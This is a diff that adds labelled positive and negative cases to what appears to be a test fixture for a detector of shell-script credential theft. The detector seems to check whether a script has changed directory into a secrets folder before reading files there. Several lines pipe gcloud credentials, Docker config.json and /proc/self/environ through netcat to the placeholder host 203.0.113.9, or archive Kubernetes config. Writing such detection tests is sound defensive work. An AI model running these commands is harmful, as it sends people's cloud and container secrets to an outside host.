@@ -302,6 +302,22 @@ tar czf /tmp/c.tgz gh/hosts.yml
 #@ pos a file three levels below a bare cd
 cd
 cat .config/gcloud/credentials.db | nc 203.0.113.9 9
+#@ pos a cd inside an earlier if's branch
+if [ -d ~/.kube ]; then cd ~/.kube; fi
+tar czf /tmp/k.tgz config
+#@ pos a cd as an earlier if's condition
+if cd /proc/self; then :; fi
+nc 203.0.113.9 9 < environ
+#@ pos a cd in a function of the program called before
+enter() { echo entering; cd ~/.docker || return 1; }
+enter
+nc 203.0.113.9 9 < config.json
+#@ neg a function whose cd is in a subshell, and a function that goes back
+peek() { (cd ~/.kube && ls); }
+peek
+back() { cd ~/.kube; popd; }
+back
+cat config
 #@ neg a cd undone by cd -, popd, or a subshell that ended
 cd ~/.kube
 cd -
